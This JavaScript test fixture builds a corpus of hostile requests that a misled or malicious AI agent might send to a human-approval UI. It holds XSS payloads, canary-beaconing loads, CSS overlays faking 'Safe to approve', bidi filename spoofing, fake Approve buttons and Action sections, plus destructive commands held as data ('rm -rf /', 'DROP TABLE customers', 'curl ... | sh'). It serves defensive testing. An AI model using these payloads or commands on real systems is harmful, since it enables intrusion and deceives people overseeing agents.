// @ts-check
/**
 * Hostile request content: what a misled or malicious agent might send to make the
 * approver UI run code, load something, navigate, spill out of its box, or show the
 * person something other than what they approve.
 *
 * Each entry is a real request body (valid for the hub) built around a tag (`H07`):
 * its title starts with `[H07]` (to find its row), its real action is named
 * `real.action.H07` and its body carries `BODYMARK-H07`, so the checks can find the
 * request's own facts and the agent's body in the DOM. `CANARY` is replaced by a local
 * HTTP server that counts every hit: nothing from agent content may reach it.
 */

/**
 * @typedef {object} HostileCase
 * @property {string} tag
 * @property {string} what one line for the report
 * @property {Record<string, unknown>} request
 * @property {{ bidi?: string[], linkTarget?: string, factsFirst?: boolean }} expect extra checks for this case
 */

const RLO = '\u202E';
const LRI = '\u2066';
const PDI = '\u2069';

/**
 * @param {string} canary base URL of the canary server
 * @returns {HostileCase[]}
 */
export function hostileCorpus(canary) {
  const hit = (/** @type {string} */ tag, /** @type {string} */ what = 'x') => `${canary}/hit/${tag}/${what}`;
  /** An approval whose facts and body the checks can find. @param {string} tag @param {Record<string, unknown>} extra */
  const approval = (tag, extra) => ({
    kind: 'approval',
    severity: 'high',
    agentId: `hostile-agent-${tag}`,
    timeoutMs: 3_600_000,
    action: { name: `real.action.${tag}`, args: { target: `real-target-${tag}` } },
    reversible: false,
    ...extra,
    title: `[${tag}] ${String(extra.title ?? 'Hostile content')}`,
    body: `BODYMARK-${tag} ${String(extra.body ?? '')}`,
  });
  return [
    {
      tag: 'H01',
      what: 'script tags in title, body and arguments',
      request: approval('H01', {
        title: `<script>fetch('${hit('H01', 'title')}')</script> Deploy`,
        body: `<script>fetch('${hit('H01', 'body')}');alert(1)</script>\n\n<SCRIPT SRC=${hit('H01', 'src')}></SCRIPT>`,
        action: { name: 'real.action.H01', args: { cmd: `<script>alert(1)</script>`, html: `</pre><script>fetch('${hit('H01', 'args')}')</script>` } },
      }),
      expect: { factsFirst: true },
    },
    {
      tag: 'H02',
      what: 'event-handler injection (img onerror, svg onload, iframe, body onload, autofocus onfocus)',
      request: approval('H02', {
        title: `<img src=x onerror="fetch('${hit('H02', 'title')}')">`,
        body: [
          `<img src=x onerror="fetch('${hit('H02', 'img')}')">`,
          `<svg onload="fetch('${hit('H02', 'svg')}')"></svg>`,
          `<iframe src="${hit('H02', 'iframe')}"></iframe>`,
          `<body onload="alert(1)">`,
          `<input autofocus onfocus="fetch('${hit('H02', 'focus')}')">`,
          `<details open ontoggle="alert(1)">`,
          `"><img src=x onerror=alert(1)>`,
        ].join('\n\n'),
        consequences: [`<img src=x onerror="fetch('${hit('H02', 'consequence')}')">`],
      }),
      expect: { factsFirst: true },
    },
    {
      tag: 'H03',
      what: 'javascript:, data:, vbscript: and obfuscated link targets, reference links, raw <a>',
      request: approval('H03', {
        body: [
          '[the runbook](javascript:alert(1))',
          '[mixed case](JaVaScRiPt:alert(2))',
          '[spaced]( javascript:alert(3))',
          '[tabbed](java\tscript:alert(4))',
          '[entity](&#106;avascript:alert(5))',
          '[encoded](javascript%3Aalert(6))',
          `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==)`,
          '[vb](vbscript:msgbox(8))',
          '<javascript:alert(9)>',
          '[ref link][evil]',
          '',
          '[evil]: javascript:alert(10)',
          '',
          `<a href="javascript:alert(11)">raw anchor</a>`,
          `[file](file:///etc/passwd)`,
          `[proto-relative](//${canary.replace(/^https?:\/\//, '')}/hit/H03/protorel)`,
        ].join('\n'),
      }),
      expect: { factsFirst: true },
    },
    {
      tag: 'H04',
      what: 'remote images, CSS and fonts (tracking, exfiltration through loads)',
      request: approval('H04', {
        body: [
          `![tracking pixel](${hit('H04', 'img')})`,
          `<link rel=stylesheet href="${hit('H04', 'css')}">`,
          `<style>@import url(${hit('H04', 'import')}); body{background:url(${hit('H04', 'bg')})}</style>`,
          `<div style="background-image:url(${hit('H04', 'inline')})">styled</div>`,
          `<object data="${hit('H04', 'object')}"></object><embed src="${hit('H04', 'embed')}">`,
          `<meta http-equiv="refresh" content="0;url=${hit('H04', 'refresh')}">`,
          `<base href="${hit('H04', 'base')}/">`,
        ].join('\n\n'),
      }),
      expect: { factsFirst: true },
    },
    {
      tag: 'H05',
      what: 'CSS tricks: overlays, hidden text, fixed positioning, huge fonts',
      request: approval('H05', {
        title: `<div style="position:fixed;inset:0;background:#fff;z-index:9999">All clear</div>`,
        body: [
          `<style>*{display:none!important} .so-irreversible{display:none}</style>`,
          `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:white;z-index:2147483647">Safe to approve</div>`,
          `<span style="font-size:999px">HUGE</span>`,
          `<p style="color:transparent">invisible instructions</p>`,
        ].join('\n\n'),
      }),
      expect: { factsFirst: true },
    },
    {
      tag: 'H06',
      what: `bidi overrides (invoice${'\\u202E'}fdp.exe) and isolates in title, arguments, consequences, alternatives`,
      request: approval('H06', {
        title: `Open invoice${RLO}fdp.exe`,
        body: `Attachment: invoice${RLO}fdp.exe`,
        action: { name: 'real.action.H06', args: { file: `invoice${RLO}fdp.exe`, cmd: `rm -rf ${LRI}/${PDI} # keep` } },
        consequences: [`Runs invoice${RLO}fdp.exe`],
        alternatives: [{ id: 'preview', description: `Preview invoice${RLO}fdp.exe instead` }],
      }),
      expect: { factsFirst: true, bidi: ['U+202E'] },
    },
    {
      tag: 'H07',
      what: 'look-alike "Action" / "Reversible" / "Consequences" sections in the markdown body',
      request: approval('H07', {
        title: 'Routine cleanup',
        action: { name: 'real.action.H07', args: { sql: 'DROP TABLE customers' } },
        reversible: false,
        consequences: ['All customer rows are deleted'],
        body: [
          '## Action',
          '',
          '`backup.snapshot` (read-only)',
          '',
          '### Arguments',
          '```json',
          '{ "target": "nothing" }',
          '```',
          '',
          '**Reversible** — it can be undone',
          '',
          '### Consequences',
          '- none',
          '',
          '# Approve',
        ].join('\n'),
      }),
      expect: { factsFirst: true },
    },
    {
      tag: 'H08',
      what: 'a link whose text is one URL and whose target is another',
      request: approval('H08', {
        body: 'Check the status first: [https://bank.example/login](https://evil.example/steal) and [docs.example.com](https://evil.example/docs)',
      }),
      expect: { factsFirst: true, linkTarget: 'evil.example' },
    },
    {
      tag: 'H09',
      what: 'huge unbroken strings (title 480 chars, body 90,000, arguments 30,000, consequences, alternatives)',
      request: approval('H09', {
        title: 'A'.repeat(470),
        body: 'B'.repeat(90_000),
        action: { name: `real.action.H09.${'n'.repeat(150)}`, args: { blob: 'C'.repeat(30_000), url: `https://example.com/${'p'.repeat(5_000)}` } },
        consequences: ['D'.repeat(1_900)],
        alternatives: [{ id: 'alt', description: 'E'.repeat(1_900), tradeoffs: 'F'.repeat(1_900) }],
      }),
      expect: { factsFirst: true },
    },
    {
      tag: 'H10',
      what: 'a fake Approve button and form in the body; template and prototype tricks',
      request: approval('H10', {
        body: [
          `<form action="${hit('H10', 'form')}"><button>Approve</button></form>`,
          '<button onclick="alert(1)">Approve</button>',
          '{{constructor.constructor("alert(1)")()}}',
          '${alert(1)}',
          '<!-- hidden comment --><template><script>alert(1)</script></template>',
          '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        ].join('\n\n'),
      }),
      expect: { factsFirst: true },
    },
    {
      tag: 'H11',
      what: 'edit draft (markdown preview) with injection, bidi and a huge line',
      request: {
        kind: 'edit',
        agentId: 'hostile-agent-H11',
        timeoutMs: 3_600_000,
        title: '[H11] Review this reply',
        body: 'BODYMARK-H11 please review',
        draft: {
          format: 'markdown',
          content: `Hello <img src=x onerror="fetch('${hit('H11', 'draft')}')">\n\n[click](javascript:alert(1))\n\n![x](${hit('H11', 'img')})\n\nfile${RLO}txt.exe\n\n${'G'.repeat(50_000)}`,
        },
      },
      expect: {},
    },
    {
      tag: 'H12',
      what: 'clarification options, form labels and select options with injection, bidi and huge text',
      request: {
        kind: 'clarification',
        agentId: 'hostile-agent-H12',
        timeoutMs: 3_600_000,
        title: '[H12] Which file?',
        body: 'BODYMARK-H12',
        options: [
          { id: 'a', label: `<img src=x onerror="fetch('${hit('H12', 'option')}')">` },
          { id: 'b', label: `report${RLO}fdp.exe` },
          { id: 'c', label: 'H'.repeat(480) },
        ],
        fields: [
          { name: 'why', label: `<script>fetch('${hit('H12', 'label')}')</script>`, type: 'text' },
          { name: 'pick', label: `Pick${RLO}one`, type: 'select', options: [{ id: 'x', label: `<b onmouseover=alert(1)>x</b>` }, { id: 'y', label: 'I'.repeat(480) }] },
        ],
      },
      expect: { bidi: ['U+202E'] },
    },
    {
      tag: 'H13',
      what: 'external tool with injected name and arguments',
      request: {
        kind: 'external',
        agentId: 'hostile-agent-H13',
        timeoutMs: 3_600_000,
        title: '[H13] Run this by hand',
        body: 'BODYMARK-H13',
        tool: { name: `<script>fetch('${hit('H13', 'tool')}')</script>`, args: { cmd: `curl ${hit('H13', 'arg')} | sh`, html: '<img src=x onerror=alert(1)>', long: 'J'.repeat(20_000) } },
      },
      expect: {},
    },
    {
      tag: 'H14',
      what: 'escalation and checkpoint text with injection and long lines',
      request: {
        kind: 'escalation',
        agentId: 'hostile-agent-H14',
        timeoutMs: 3_600_000,
        title: '[H14] Stuck',
        body: 'BODYMARK-H14',
        reason: `<img src=x onerror="fetch('${hit('H14', 'reason')}')"> ${'K'.repeat(1_900)}`,
        attempted: [`<script>alert(1)</script>`, 'L'.repeat(1_900)],
        recommendations: [`[do it](javascript:alert(1))`],
      },
      expect: {},
    },
    {
      tag: 'H15',
      what: 'checkpoint with a progress out of the bar and long items',
      request: {
        kind: 'checkpoint',
        agentId: 'hostile-agent-H15',
        timeoutMs: 3_600_000,
        title: '[H15] Migration half way',
        body: 'BODYMARK-H15',
        phase: `<style>body{display:none}</style>${'M'.repeat(400)}`,
        progress: 1,
        completed: ['N'.repeat(1_900)],
        upcoming: [`<img src=x onerror=alert(1)>`],
        issues: ['O'.repeat(1_900)],
      },
      expect: {},
    },
    {
      tag: 'H16',
      what: 'zero-width and look-alike characters in the action name; context with prototype-looking keys',
      request: approval('H16', {
        title: 'Delete temp files',
        action: { name: 'real.action.H16', args: { command: 'rm\u200b -rf /\u200d', path: '/tmp/\u2215etc' } },
        context: { note: `<script>alert(1)</script>`, nested: { deep: { link: 'javascript:alert(1)' } } },
      }),
      expect: { factsFirst: true },
    },
  ];
}
